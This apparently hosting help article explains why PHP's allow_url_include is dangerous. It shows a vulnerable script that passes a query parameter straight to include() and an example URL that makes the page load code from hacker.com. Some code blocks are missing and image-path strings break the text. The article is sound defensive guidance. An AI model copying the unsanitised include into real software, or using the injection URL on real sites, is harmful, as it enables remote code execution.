Have a Question?

If you have any question you can ask below or enter what you are looking for!

Security Risks Involved with allow_url_include

The Php option allow_url_include permits the inclusion of a remote Php code (executed through local server) using URL. Do not attempt to use this feature for security reasons. If you are considering installing web software that requires this feature, never install such a software. It is recommended that you look for an alternative.

Here are the reasons for avoiding allow_url_include:

  • The app may be deceived into including and, in some cases executing, custom content from a remote Uniform ResourceLocator so hackers can force your app to run the random code
  • If your PHP scripts include URL content, the web server must initiate additional HTTP requests to generate the page which will load very slowly.
  • Your website will not display correctly if the web server you are loading content from fails to respond.
  • In general, you can include content directly from a domain you are hosting. Alternately, you can load the content without evaluating it as PHP.

Server-Side Includes (SSI)

For instance, you are working on domain.tld and your software has the following directive:


If you set allow_include to off, the method mentioned above will not function. Rather, you will need to include the file with a local path.

  1. Use a relative path.
  2. Use an absolute path.
  3. Use a Php environment variable.

    This will restore the absolute path to the web directory, e.g.:


Consequence of Enablingallow_url_include

The following is a standard script.

$page = ($_GET['page']) ? $_GET['page'] : "index.php";
    <title>This is EVIL</title>

...anything here...<?php include($page); ?>

...anything here...


You can change the pagecontent by adding a query string to the URL, such as this:(http://www.domain.tld/index.php?page=new_content.php)If allow_url_include is enabled, you can change the variable in the query series, exploiting the page:http://www.domain.tld//index.php?page=http//hacker.com/evil_script.TXT

Leave a ReplyYou must be logged in to post a comment.